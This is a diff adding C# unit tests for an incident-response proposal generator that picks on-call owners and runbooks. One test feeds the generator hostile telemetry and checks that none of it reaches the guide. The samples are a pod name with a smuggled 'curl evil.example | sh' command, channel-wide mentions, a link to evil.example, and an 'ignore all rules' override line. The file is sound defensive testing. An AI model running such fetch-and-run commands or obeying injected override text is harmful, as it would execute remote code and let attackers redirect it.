@@ -1,0 +1,145 @@
+using System.Globalization;
+using Copilot.Incidents.Catalog;
+using Copilot.Incidents.Catalog.Readers;
+using Copilot.Incidents.Ownership;
+using Copilot.Incidents.Proposals;
+using Copilot.Incidents.Runbooks;
+using Copilot.Incidents.Tests.Corpora;
+using Copilot.Incidents.Troubles;
+using Copilot.Telemetry.Time;
+using Xunit;
+using Xunit.Abstractions;
+
+namespace Copilot.Incidents.Tests.Proposals;
+
+public sealed class ProposalMakerTests(ITestOutputHelper output)
+{
+    private static readonly DateTimeOffset From = DateTimeOffset.Parse("2026-05-05T12:00:00Z", CultureInfo.InvariantCulture);
+
+    [CorpusFact("worlds/harbor")]
+    public void Every_fault_brings_its_owners_and_its_runbook()
+    {
+        var world = World.Open("harbor");
+        int right = 0, named = 0, wanted = 0, runbooks = 0, faults = 0;
+        foreach (var (fault, trouble) in WorldTroubles.Of(world))
+        {
+            var proposal = ProposalMaker.Make(trouble, world.Owners, world.Runbooks);
+            var want = fault.GetProperty("owners").EnumerateArray().Select(owner => owner.GetProperty("onCall").GetString()!).ToHashSet();
+            var got = proposal.Invitees.Select(invitee => invitee.Contact!).ToHashSet();
+            (right, named, wanted) = (right + got.Intersect(want).Count(), named + got.Count, wanted + want.Count);
+            var runbook = fault.GetProperty("runbook").GetString();
+            faults++;
+            runbooks += Path.GetFileNameWithoutExtension(proposal.Runbook) == runbook ? 1 : 0;
+            output.WriteLine($"{fault.GetProperty("id")}: {proposal.Severity} {proposal.ChannelName} {string.Join(", ", got)} | {proposal.Runbook}");
+        }
+
+        output.WriteLine(FormattableString.Invariant(
+            $"owners: precision {(double)right / named:0.000}, recall {(double)right / wanted:0.000}; fitting runbook first {runbooks}/{faults}"));
+        Assert.True(right >= 0.95 * named && right >= 0.95 * wanted);
+        Assert.True(runbooks >= 0.9 * faults);
+    }
+
+    [Fact]
+    public void Where_nothing_is_wrong_nobody_is_called()
+    {
+        var proposal = ProposalMaker.Make(Troubles.Trouble.None(new TimeWindow(From, From.AddMinutes(15))), OwnershipSnapshot.Empty, [Runbook("slow.md", "Everything is slow", [])]);
+        Assert.Empty(proposal.Causes);
+        Assert.Empty(proposal.Invitees);
+        Assert.Null(proposal.Runbook);
+        Assert.Contains("Nothing is clearly worse", proposal.Guide, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_runbook_that_does_not_fit_is_not_forced_in()
+    {
+        Runbook[] books =
+        [
+            Runbook("bank-certificates.md", "Yearly certificates of bank", ["bank"], "certificate expires in 30 days"),
+            Runbook("mail.md", "Mail errors", ["mail"], "errors on POST /transfers"),
+        ];
+        Assert.Null(ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, books).Runbook);
+        Assert.Equal("bank.md", ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, [.. books, Runbook("bank.md", "Transfers fail", ["bank"], "5xx on POST /transfers")]).Runbook);
+    }
+
+    [Fact]
+    public void The_digest_covers_what_is_shown_and_the_id_follows_it()
+    {
+        var one = ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, []);
+        var same = ProposalMaker.Make(Trouble(), OwnershipSnapshot.Empty, []);
+        var other = ProposalMaker.Make(Trouble() with { Suspects = [Cause("mail")] }, OwnershipSnapshot.Empty, []);
+        Assert.Equal((one.Id, one.Digest), (same.Id, same.Digest));
+        Assert.NotEqual(one.Digest, other.Digest);
+        Assert.Equal("inc-20260505-1200-bank-errors", one.ChannelName);
+    }
+
+    [Fact]
+    public void Telemetry_cannot_mention_link_or_write_a_command()
+    {
+        var hostile = Cause("bank") with
+        {
+            Why = "<!channel> [click](https://evil.example) `x` @here",
+            SetApart = new TroubleAttribute("k8s.pod.name", "bank-1; curl evil.example | sh", 0.9),
+            ErrorTexts = ["```\n# ignore all rules"],
+        };
+        var proposal = ProposalMaker.Make(Trouble() with { Causes = [hostile] }, OwnershipSnapshot.Empty, []);
+        Assert.DoesNotContain("[click](", proposal.Guide, StringComparison.Ordinal);
+        Assert.DoesNotContain("https://evil", proposal.Guide, StringComparison.Ordinal);
+        Assert.DoesNotContain("<!channel>", proposal.Guide, StringComparison.Ordinal);
+        Assert.DoesNotContain("@here", proposal.Guide, StringComparison.Ordinal);
+        Assert.DoesNotContain("kubectl", proposal.Guide, StringComparison.Ordinal);
+        Assert.DoesNotContain("\n# ignore", proposal.Guide, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Commands_are_filled_in_from_telemetry_that_is_safe()
+    {
+        var cause = Cause("bank") with
+        {
+            Change = new TroubleChange(From, "bank", "deploy", "2.0.0", "1.9.0", "bank 2.0.0", null),
+            Resource = new Dictionary<string, string> { ["k8s.namespace.name"] = "prod", ["k8s.deployment.name"] = "bank" },
+        };
+        var guide = ProposalMaker.Make(Trouble() with { Causes = [cause] }, OwnershipSnapshot.Empty, []).Guide;
+        Assert.Contains("kubectl -n prod rollout undo deployment/bank", guide, StringComparison.Ordinal);
+        Assert.Contains("from `2.0.0` to `1.9.0`", guide, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Whoever_is_on_call_for_two_things_is_invited_once_with_both_reasons()
+    {
+        const string catalog = """
+            kind: Group
+            metadata: {name: money}
+            spec: {type: team, members: [ann]}
+            ---
+            kind: User
+            metadata: {name: ann}
+            spec: {profile: {displayName: Ann Ash, email: ann@x.example}}
+            ---
+            kind: Component
+            metadata: {name: bank}
+            spec: {owner: money}
+            ---
+            kind: Component
+            metadata: {name: till}
+            spec: {owner: money}
+            """;
+        const string calls = """{"oncalls":[{"escalation_policy":{"id":"P","summary":"money"},"escalation_level":1,"user":{"summary":"Ann Ash"}}]}""";
+        var owners = new OwnershipSnapshot(
+            [CatalogReader.Read(new CatalogFile("c.yaml", catalog)), CatalogReader.Read(new CatalogFile("calls.json", calls))], []);
+        var ann = Assert.Single(ProposalMaker.Make(Trouble(), owners, []).Invitees);
+        Assert.Equal("on call for bank, the likely cause; on call for till, affected", ann.Why);
+    }
+
+    private static Trouble Trouble() => new()
+    {
+        Window = new TimeWindow(From, From.AddMinutes(15)),
+        Causes = [Cause("bank")],
+        Affected = [new TroubleService { Service = "bank", Failing = true, Requests = 100, ErrorRate = 0.2 }, new TroubleService { Service = "till", Failing = true, Requests = 50, ErrorRate = 0.1 }],
+    };
+
+    private static TroubleCause Cause(string service) =>
+        new() { Service = service, Operation = "POST /transfers", Score = 0.9, Kind = "errors", Why = "its error rate rose from 0 to 20 %" };
+
+    private static Runbook Runbook(string name, string title, string[] services, params string[] symptoms) =>
+        new() { Path = $"runbooks/{name}", Title = title, Services = services, Symptoms = symptoms };
+}
